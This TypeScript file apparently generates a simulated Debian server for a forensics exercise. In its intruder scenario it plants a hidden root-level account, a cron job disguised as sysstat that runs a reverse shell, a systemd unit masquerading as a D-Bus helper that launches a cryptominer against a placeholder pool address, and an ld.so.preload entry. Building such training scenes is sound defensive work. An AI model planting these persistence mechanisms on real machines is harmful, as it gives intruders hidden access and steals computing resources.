import { PLANTED_PATHS, REVERSE_SHELL, type Scene, SUSPECT } from './scene.js';

const OS_RELEASE = `PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"
NAME="Debian GNU/Linux"
VERSION_ID="12"
VERSION="12 (bookworm)"
VERSION_CODENAME=bookworm
ID=debian
HOME_URL="https://www.debian.org/"
`;

const ACCOUNTS = [
  'root:x:0:0:root:/root:/bin/bash',
  'daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin',
  'bin:x:2:2:bin:/bin:/usr/sbin/nologin',
  'sys:x:3:3:sys:/dev:/usr/sbin/nologin',
  'sync:x:4:65534:sync:/bin:/bin/sync',
  'man:x:6:12:man:/var/cache/man:/usr/sbin/nologin',
  'mail:x:8:8:mail:/var/mail:/usr/sbin/nologin',
  'www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin',
  'backup:x:34:34:backup:/var/backups:/usr/sbin/nologin',
  '_apt:x:42:65534::/nonexistent:/usr/sbin/nologin',
  'nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin',
  'systemd-network:x:998:998:systemd Network Management:/:/usr/sbin/nologin',
  'systemd-resolve:x:996:996:systemd Resolver:/:/usr/sbin/nologin',
  'messagebus:x:100:107::/nonexistent:/usr/sbin/nologin',
  'sshd:x:101:65534::/run/sshd:/usr/sbin/nologin',
  '_chrony:x:102:109:Chrony daemon,,,:/var/lib/chrony:/usr/sbin/nologin',
  'mysql:x:103:110:MySQL Server,,,:/nonexistent:/bin/false',
  'admin:x:1000:1000:Debian:/home/admin:/bin/bash',
  'deploy:x:1001:1001:Deployment,,,:/home/deploy:/bin/bash',
];

const GROUPS = [
  'root:x:0:',
  'daemon:x:1:',
  'adm:x:4:admin',
  'www-data:x:33:deploy',
  'shadow:x:42:',
  'systemd-journal:x:101:',
  'mysql:x:110:',
  'admin:x:1000:',
  'deploy:x:1001:',
];

const SSHD_CONFIG = `Include /etc/ssh/sshd_config.d/*.conf
PermitRootLogin prohibit-password
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM yes
X11Forwarding no
PrintMotd no
AcceptEnv LANG LC_*
Subsystem sftp /usr/lib/openssh/sftp-server
`;

const PLAIN_FILES: Readonly<Record<string, string>> = {
  'etc/os-release': OS_RELEASE,
  'usr/lib/os-release': OS_RELEASE,
  'etc/debian_version': '12.9\n',
  'etc/hostname': `${SUSPECT.hostname}\n`,
  'etc/hosts': `127.0.0.1 localhost\n${SUSPECT.privateAddress} ${SUSPECT.hostname}\n::1 localhost ip6-localhost\n`,
  'etc/resolv.conf': 'nameserver 10.20.0.2\nsearch eu-west-1.compute.internal\n',
  'etc/fstab':
    'PARTUUID=3c5c9e6e-01 / ext4 rw,discard,errors=remount-ro 0 1\n/dev/nvme1n1 /srv ext4 rw,nofail 0 2\n',
  'etc/machine-id': 'ec2f8a7c51d24b7e8460a3b1c0d9e8f7\n',
  'etc/timezone': 'Etc/UTC\n',
  'etc/profile': 'if [ "$(id -u)" -eq 0 ]; then PATH="/usr/sbin:/usr/bin:/sbin:/bin"; fi\nexport PATH\n',
  'etc/bash.bashrc': '[ -z "$PS1" ] && return\nshopt -s checkwinsize\n',
  'etc/nsswitch.conf': 'passwd: files systemd\ngroup: files systemd\nshadow: files\nhosts: files dns\n',
  'etc/ssh/sshd_config': SSHD_CONFIG,
  'etc/pam.d/sshd': '@include common-auth\naccount required pam_nologin.so\n@include common-session\n',
  'etc/pam.d/common-auth': 'auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\n',
  'etc/apt/sources.list': 'deb http://deb.debian.org/debian bookworm main\n',
  'etc/sudoers.d/90-cloud-init-users': 'admin ALL=(ALL) NOPASSWD:ALL\n',
  'etc/sudoers.d/deploy': 'deploy ALL=(ALL) NOPASSWD: ALL\n',
  'etc/apache2/sites-enabled/000-shop.conf':
    '<VirtualHost *:80>\n  DocumentRoot /var/www/html\n  ErrorLog /var/log/apache2/error.log\n  CustomLog /var/log/apache2/access.log combined\n</VirtualHost>\n',
  'etc/cron.d/e2scrub_all':
    '30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n',
  'etc/cron.d/php':
    '09,39 * * * * root [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi\n',
  'etc/cron.d/sysstat':
    '5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1\n59 23 * * * root command -v debian-sa1 > /dev/null && debian-sa1 60 2\n',
  'etc/crontab':
    'SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n',
  'etc/cron.daily/logrotate':
    '#!/bin/sh\n[ -d /run/systemd/system ] && exit 0\n/usr/sbin/logrotate /etc/logrotate.conf\n',
  'etc/cron.daily/apt-compat':
    '#!/bin/sh\nset -e\n[ -d /run/systemd/system ] && exit 0\nexec /usr/lib/apt/apt.systemd.daily\n',
  'etc/logrotate.conf': 'weekly\nrotate 4\ncreate\ninclude /etc/logrotate.d\n',
  'var/spool/cron/crontabs/www-data':
    '# m h dom mon dow command\n*/5 * * * * /usr/bin/php /var/www/html/wp-cron.php >/dev/null 2>&1\n',
};

/** /etc, accounts and schedules, with what the intruder changed in them. */
export function paintSystemFiles(scene: Scene): void {
  const { draft, times } = scene;
  for (const [path, content] of Object.entries(PLAIN_FILES)) {
    const mode = /^etc\/sudoers|crontabs\//.test(path)
      ? 0o440
      : path.startsWith('etc/cron.daily/')
        ? 0o755
        : 0o644;
    draft.file(path, content, { at: times.installed, mode });
  }
  draft.link('etc/localtime', '/usr/share/zoneinfo/Etc/UTC', { at: times.installed });
  draft.directory('tmp', { at: times.findingAt, mode: 0o1777 });
  draft.directory('run/cordon', { at: times.boot, mode: 0o700 });
  for (const folder of ['run', 'mnt', 'srv', 'opt', 'dev/shm', 'sys'])
    draft.directory(folder, { at: times.boot });
  draft.directory('var/tmp', { at: times.findingAt, mode: 0o1777 });
  paintAccounts(scene);
  if (scene.intruder === 'present') paintPersistence(scene);
}

function paintAccounts({ draft, times, random, intruder }: Scene): void {
  const present = intruder === 'present';
  const at = present ? times.account : times.installed;
  const accounts = present ? [...ACCOUNTS, 'sysupd:x:0:0::/var/lib/sysupd:/bin/bash'] : ACCOUNTS;
  const groups = [...GROUPS, present ? 'sudo:x:27:admin,sysupd' : 'sudo:x:27:admin'];
  const shadow = accounts.map((line) => {
    const name = line.slice(0, line.indexOf(':'));
    const secret = ['deploy', 'sysupd'].includes(name) ? `$y$j9T$${random.hex(22)}$${random.hex(43)}` : '*';
    return `${name}:${secret}:20700:0:99999:7:::`;
  });
  draft.file('etc/passwd', `${accounts.join('\n')}\n`, { at });
  draft.file('etc/group', `${groups.join('\n')}\n`, { at });
  draft.file('etc/shadow', `${shadow.join('\n')}\n`, { at, mode: 0o640 });
  draft.file('etc/passwd-', `${ACCOUNTS.join('\n')}\n`, { at: times.installed });
}

const UNIT = `[Unit]
Description=D-Bus session helper
After=network.target

[Service]
Type=simple
WorkingDirectory=/var/tmp/.x
ExecStart=/bin/sh -c 'cd /var/tmp/.x && exec ./kworkerd --pool stratum+tcp://203.0.113.66:3333'
Restart=always
RestartSec=30

[Install]
WantedBy=multi-user.target
`;

function paintPersistence({ draft, times }: Scene): void {
  const cron = `# sysstat: keep the activity data current\n*/10 * * * * root ${REVERSE_SHELL}\n`;
  draft.file(PLANTED_PATHS.cron, cron, { at: times.cron });
  draft.file(PLANTED_PATHS.unit, UNIT, { at: times.service });
  draft.link(PLANTED_PATHS.unitWanted, `/${PLANTED_PATHS.unit}`, { at: times.service });
  draft.file(PLANTED_PATHS.preload, `/${PLANTED_PATHS.preloadLibrary}\n`, { at: times.preload });
}
